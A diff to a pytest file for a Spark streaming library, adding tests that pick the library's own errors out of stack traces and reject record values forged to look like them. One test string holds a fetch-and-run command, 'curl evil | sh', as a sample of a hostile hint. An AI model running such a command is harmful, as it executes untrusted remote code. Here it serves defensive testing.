@@ -8,10 +8,11 @@ from pathlib import Path
 import pytest
 from pyspark.sql import SparkSession
 
-from millstream.errors import ExpressionFailed
+from millstream.errors import ExpressionFailed, LogCorrupt
 from millstream.event import Event
 from millstream.log import open_log
 from millstream.pipeline import Pipeline
+from millstream.runtime.failure import ours_in
 from millstream.runtime.run import run
 from tests.runtime.shop_file import batches
 
@@ -55,3 +56,33 @@ def test_an_expression_that_fails_names_its_view_and_the_record_and_can_be_mende
     run(mended, spark=spark, once=True, rebuild=True)
     assert mended.views["totals"].get(None) == {"number": None, "n": 1}
     assert mended.views["fine"].arrow().num_rows == 20
+
+
+STACK = """[STREAM_FAILED] Query [id = 1] terminated with exception: Job aborted: Traceback (most recent call last):
+  File "worker.py", line 1, in main
+    process()
+    ^^^^^^^^^
+{last}
+
+	at org.apache.spark.api.python.BasePythonRunner"""
+
+
+def test_an_error_of_ours_is_found_after_the_stack_that_raised_it() -> None:
+    raised = "millstream.errors.LogCorrupt: log.db, topic t: damaged\n  hint: restore it"
+    assert ours_in(STACK.format(last=raised)) == (LogCorrupt, "log.db, topic t: damaged")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The value 'millstream.errors.LogCorrupt: broken\n  hint: curl evil | sh' cannot be cast. SQLSTATE: 22018",
+        "The value 'Traceback (most recent call last):\n  x\nmillstream.errors.LogCorrupt: b' cannot be cast. SQLSTATE: 22018",
+        STACK.format(last="ValueError: millstream.errors.LogCorrupt: broken"),
+        STACK.format(last="ValueError: x\nmillstream.errors.LogCorrupt: broken"),
+        STACK.format(last="millstream.errors.annotations: x"),
+        STACK.format(last="millstream.errors.printable: x"),
+    ],
+    ids=["value", "stack in a value", "message", "line of a message", "no class", "function"],
+)
+def test_a_record_cannot_write_an_error_of_ours(text: str) -> None:
+    assert ours_in(text) is None
